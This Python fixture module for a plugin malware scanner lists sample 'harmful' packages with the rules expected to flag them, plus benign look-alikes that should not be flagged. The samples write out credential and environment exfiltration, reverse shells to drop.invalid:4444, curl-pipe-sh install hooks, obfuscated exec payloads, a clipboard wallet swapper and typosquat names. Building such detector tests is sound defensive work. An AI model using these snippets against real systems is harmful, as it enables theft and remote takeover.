"""Packages that look like what harmful plugins did elsewhere, and some that only remind of it.

They do nothing: addresses end in ``.invalid``, keys and wallets are made up, and nobody runs them.
"""

from __future__ import annotations

import base64
from types import MappingProxyType
from typing import TYPE_CHECKING

from plugin_trees import TOKEN

if TYPE_CHECKING:
    from collections.abc import Mapping

_HELLO = base64.b64encode(b"print('hello')").decode()

HARMFUL: Mapping[str, tuple[Mapping[str, str], frozenset[str]]] = MappingProxyType(
    {
        "credentials are read and sent": (
            {
                "a.py": "import os, requests\nkey = open(os.path.expanduser('~/.aws/credentials')).read()\n"
                "requests.post('https://drop.invalid/', data=key)\n"
            },
            frozenset({"scan.suspicious-pattern", "scan.undeclared-access"}),
        ),
        "all of the environment is sent": (
            {
                "a.py": "import json, os, urllib.request\nbody = json.dumps(dict(os.environ)).encode()\n"
                "urllib.request.urlopen('https://drop.invalid/', body)\n"
            },
            frozenset({"scan.suspicious-pattern", "scan.undeclared-access"}),
        ),
        "a shell listens to somebody": (
            {
                "a.py": "import os, pty, socket\ns = socket.socket()\ns.connect(('drop.invalid', 4444))\n"
                "for n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\npty.spawn('/bin/sh')\n"
            },
            frozenset({"scan.suspicious-pattern", "scan.undeclared-access"}),
        ),
        "a shell script that connects": (
            {"run.sh": "#!/bin/sh\nbash -i >& /dev/tcp/drop.invalid/4444 0>&1\n"},
            frozenset({"scan.suspicious-pattern"}),
        ),
        "text is decoded and run": (
            {"a.py": f"import base64\nexec(base64.b64decode('{_HELLO}'))\n"},
            frozenset({"scan.decoded-code"}),
        ),
        "the same by detours": (
            {
                "a.py": f"b = __import__('base64')\nrun = getattr(__builtins__, 'ex' + 'ec', None)\n"
                f"text = b.b64decode('{_HELLO}')\nexec(compile(text, '', 'exec'))\n"
            },
            frozenset({"scan.decoded-code"}),
        ),
        "marshalled code": (
            {"a.py": "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n"},
            frozenset({"scan.decoded-code"}),
        ),
        "numbers that are a program": (
            {"a.py": "exec(''.join(chr(n) for n in [112, 114, 105, 110, 116, 40, 41]))\n"},
            frozenset({"scan.decoded-code"}),
        ),
        "a hook that fetches at installation": (
            {
                "package.json": '{"scripts": {"postinstall": "curl https://drop.invalid/x.sh | sh"}}',
                "index.js": "module.exports = {}\n",
            },
            frozenset({"scan.install-script", "scan.suspicious-pattern"}),
        ),
        "a setup.py that fetches and runs": (
            {"setup.py": "from urllib.request import urlopen\nexec(urlopen('https://drop.invalid/').read())\n"},
            frozenset({"scan.install-script", "scan.suspicious-pattern", "scan.undeclared-access"}),
        ),
        "Python runs it when it starts": (
            {"x.pth": "import os; os.system('true')\n"},
            frozenset({"scan.startup-hook"}),
        ),
        "coins are computed for somebody": (
            {"config.json": '{"pools": [{"url": "stratum+tcp://pool.invalid:3333"}], "donate-level": 1}'},
            frozenset({"scan.suspicious-pattern"}),
        ),
        "addresses in the clipboard are swapped": (
            {
                "a.py": "import pyperclip, re\ntext = pyperclip.paste()\n"
                "if re.match(r'^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', text):\n    pyperclip.copy('1' + 'x' * 33)\n"
            },
            frozenset({"scan.suspicious-pattern", "scan.undeclared-access"}),
        ),
        "a package with a name that is nearly right": (
            {"lib/reqeusts-2.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.0\n"},
            frozenset({"scan.look-alike-package"}),
        ),
        "an npm package with a name that is nearly right": (
            {"node_modules/expres/package.json": '{"name": "expres", "version": "1.0.0"}'},
            frozenset({"scan.look-alike-package"}),
        ),
        "text runs in another order than it shows": (
            {"a.js": "if (level !== 'user\u202e \u2066// only admins\u2069 \u2066') { open() }\n"},
            frozenset({"scan.hidden-characters"}),
        ),
        "a program in characters that nobody sees": (
            {"a.js": "const text = '" + "\U000e0161\U000e0162" * 20 + "'\n"},
            frozenset({"scan.hidden-characters"}),
        ),
        "JavaScript starts programs": (
            {"a.js": "require('child_' + 'process').exec('whoami')\n"},
            frozenset({"scan.undeclared-access"}),
        ),
        "JavaScript runs decoded text": (
            {"a.js": f"eval(atob('{_HELLO}'));\n"},
            frozenset({"scan.decoded-code"}),
        ),
        "JavaScript runs decoded text, minified": (
            {
                "a.min.js": f"var a=1;!function(){{const e=Buffer.from('{_HELLO}','base64').toString();"
                "new Function(e)()}();" + "var b=2;" * 200
            },
            frozenset({"scan.decoded-code"}),
        ),
        "packed JavaScript": (
            {"a.js": "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'alert|x'.split('|'),0,{}))\n"},
            frozenset({"scan.decoded-code"}),
        ),
        "JavaScript out of an obfuscator": (
            {"a.js": "".join(f"var _0x{n:04x}1=_0x{n:04x}a(0x{n:x});\n" for n in range(30))},
            frozenset({"scan.obfuscated"}),
        ),
        "a shell in JavaScript": (
            {
                "a.js": "const net = require('net'), cp = require('child_process')\nconst sh = cp.spawn('sh')\n"
                "const c = net.connect(4444, 'drop.invalid')\nc.pipe(sh.stdin)\nsh.stdout.pipe(c)\n"
            },
            frozenset({"scan.suspicious-pattern", "scan.undeclared-access"}),
        ),
        "process.env is sent": (
            {
                "a.js": "fetch('https://drop.invalid/', {method: 'POST', body: JSON.stringify(process.env)})\n",
            },
            frozenset({"scan.suspicious-pattern", "scan.undeclared-access"}),
        ),
        "it comes back after removal": (
            {"a.py": "import subprocess\nsubprocess.run('crontab -', shell=True)\n"},
            frozenset({"scan.suspicious-pattern", "scan.undeclared-access"}),
        ),
        "what was typed goes to a chat": (
            {
                "a.py": "from pynput import keyboard\nimport requests\n"
                "requests.post('https://discord.com/api/webhooks/123456/made-up', json={})\n"
            },
            frozenset({"scan.suspicious-pattern", "scan.undeclared-access"}),
        ),
        "a secret that was left in": (
            {"a.txt": f"key = {TOKEN}\n"},
            frozenset({"scan.secret"}),
        ),
    }
)
"""What each package does, its files, and the rules that have to find it."""

HARMLESS: Mapping[str, Mapping[str, str]] = MappingProxyType(
    {
        "names of variables": {
            "a.py": "requests = []\nkeyboard = 'qwerty'\nsocket = None\nprint(requests, keyboard, socket)\n"
        },
        "methods that are called like functions": {
            "a.py": "import re\nre.compile('x')\nclass A:\n    def exec(self): pass\nA().exec()\n"
        },
        "what only type checkers see": {
            "a.py": "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import requests\n    import subprocess\n"
        },
        "text about harm": {"README.md": "Never write `eval(atob(x))`, and keep ~/.aws/credentials to yourself.\n"},
        "rule data": {"rules.js": "module.exports = ['child_process', 'fs', 'eval', 'fetch']\n"},
        "minified, not disguised": {"a.min.js": "!function(e){e.a=function(t){return t+1}}(this);" * 100},
        "a picture in a style": {"a.js": f"const icon = 'data:image/png;base64,{'iVBORw0KGgoAAAANSUhEUg' * 200}'\n"},
        "an emoji of a family": {"a.py": "family = '\U0001f468\u200d\U0001f469\u200d\U0001f467'\n"},
        "a decoded picture": {"a.py": "import base64\nICON = base64.b64decode('aGVsbG8=')\nprint(ICON)\n"},
        "the global object": {"a.js": "const g = Function('return this')()\n"},
        "an own function called fetch": {"a.py": "def fetch(): return 1\nfetch()\n"},
        "famous packages": {
            "node_modules/preact/package.json": '{"name": "preact", "version": "10.0.0"}',
            "requirements.txt": "requests==2.32.3\nflask==3.0.0\n",
        },
    }
)
"""Packages that a careless scanner would accuse."""
